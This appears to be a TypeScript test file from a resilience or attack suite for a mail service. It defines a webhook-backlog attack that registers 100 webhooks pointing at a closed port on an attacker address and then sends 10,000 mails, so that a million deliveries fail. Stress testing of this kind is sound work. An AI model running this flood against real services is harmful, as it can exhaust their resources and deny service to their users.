import { attackerAddress } from '../addresses.ts';
import type { Attack } from '../attack.ts';
import { createMailbox, message, sendMails } from '../attacked-mailbox.ts';
import { callForJson } from '../http-call.ts';

const webhooks = 100;
const mails = 10_000;
/** Nothing listens there: each attempt fails at once. */
const closedPort = 9_999;

/** Many events for many webhooks that cannot be reached: a backlog of a million deliveries. */
export const webhookBacklog: Attack = {
  id: '8c',
  name: 'backlog of 10,000 mails × 100 webhooks',
  seconds: 25,
  usesWebhooks: true,
  prepare: async (target) => {
    const { url, key } = target;
    const { address: recipient } = await createMailbox(target);
    for (let index = 0; index < webhooks; index += 1) {
      const body = { url: `http://${attackerAddress()}:${closedPort}/${index}`, types: ['mail.received'] };
      await callForJson(url, { method: 'POST', path: '/v1/webhooks', key, body });
    }
    const content = message({ body: 'Hello.' });
    return async (over) =>
      `mails: ${await sendMails(target, { recipient, count: mails, content: () => content, over })}`;
  },
};
